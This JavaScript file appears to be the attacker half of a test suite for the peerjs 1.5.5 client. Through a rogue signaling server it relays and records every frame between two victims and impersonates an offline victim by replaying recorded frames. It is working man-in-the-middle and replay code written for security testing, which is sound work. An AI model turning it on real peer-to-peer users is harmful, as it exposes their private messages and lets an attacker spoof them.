// The attacker of the man-in-the-middle tests, on the stock `peerjs` 1.5.5 client. With the rogue signaling
// server (../rogue-server.mjs) sending each victim's offers to one of mallory's two peers, mallory answers
// each victim on a DTLS session of her own and relays every frame, unchanged, to the other victim over a
// second session. She records what she relays, so a test can tell what she could read.
// She can also pose as a victim who is offline and replay frames she recorded earlier.
'use strict';

(() => {
  const seen = []; // { from, to, frame }
  const peers = [];

  function options(server) {
    return { host: server.host, port: server.port, path: server.path, secure: false, key: 'peerjs', config: { iceServers: [] }, debug: 1 };
  }

  function open(id, server) {
    const peer = new peerjs.Peer(id, options(server));
    peers.push(peer);
    return new Promise((resolve, reject) => {
      peer.on('open', () => resolve(peer));
      peer.on('error', (err) => reject(new Error(`mallory's peer ${id}: ${err.type}: ${err.message}`)));
    });
  }

  /** Sends on `conn` now if it is open, or as soon as it opens. */
  function sender(conn) {
    const waiting = [];
    conn.on('open', () => { for (const frame of waiting.splice(0)) conn.send(frame); });
    return (frame) => (conn.open ? conn.send(frame) : waiting.push(frame));
  }

  /** Relays between a victim's connection and a new one mallory makes to the other victim, posing. */
  function relay(incoming, via, otherVictim) {
    const outgoing = via.connect(otherVictim, { metadata: incoming.metadata, serialization: incoming.serialization, reliable: true });
    const toOther = sender(outgoing);
    const toIncoming = sender(incoming);
    incoming.on('data', (frame) => { seen.push({ from: incoming.peer, to: otherVictim, frame }); toOther(frame); });
    outgoing.on('data', (frame) => { seen.push({ from: otherVictim, to: incoming.peer, frame }); toIncoming(frame); });
    incoming.on('close', () => outgoing.close());
    outgoing.on('close', () => incoming.close());
  }

  window.mallory = {
    seen,

    /** Registers mallory's two stand-ins and relays whatever reaches them. */
    async relayBetween(server, { a, b, posingAsA, posingAsB }) {
      const [standInForA, standInForB] = await Promise.all([open(posingAsA, server), open(posingAsB, server)]);
      standInForB.on('connection', (conn) => relay(conn, standInForA, b));
      standInForA.on('connection', (conn) => relay(conn, standInForB, a));
    },

    /**
     * Registers as `victim` (who must be offline) and answers every connection with `frames`, recorded from
     * the real victim earlier, then with a chat message of her own.
     */
    async replayAs(server, victim, frames, chat) {
      const peer = await open(victim, server);
      peer.on('connection', (conn) => {
        conn.on('data', (frame) => seen.push({ from: conn.peer, to: victim, frame }));
        conn.on('open', () => {
          for (const frame of frames) conn.send(frame);
          setTimeout(() => conn.send(chat), 500);
        });
      });
    },

    stop() {
      for (const peer of peers.splice(0)) peer.destroy();
    },
  };
})();
